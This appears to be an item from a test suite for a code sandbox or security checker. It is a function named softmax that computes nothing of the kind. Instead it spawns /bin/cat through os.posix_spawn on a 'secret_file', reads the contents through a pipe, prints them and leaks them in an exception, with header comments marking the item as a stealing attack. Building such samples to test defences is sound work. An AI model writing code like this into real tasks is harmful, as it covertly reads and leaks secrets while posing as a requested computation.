# rows = [40]
# attack = "starts a program without fork in its own code"
# step = "softmax"
# outcomes = ["raised"]
# steals = true
# ---
import os


def softmax(scores):
    reader, writer = os.pipe()
    redirect = [(os.POSIX_SPAWN_DUP2, writer, 1)]
    program = ["/bin/cat", FACTS["secret_file"]]
    child = os.posix_spawn(program[0], program, {}, file_actions=redirect)
    os.waitpid(child, 0)
    loot = os.read(reader, 200)
    print(loot)
    raise RuntimeError(loot)
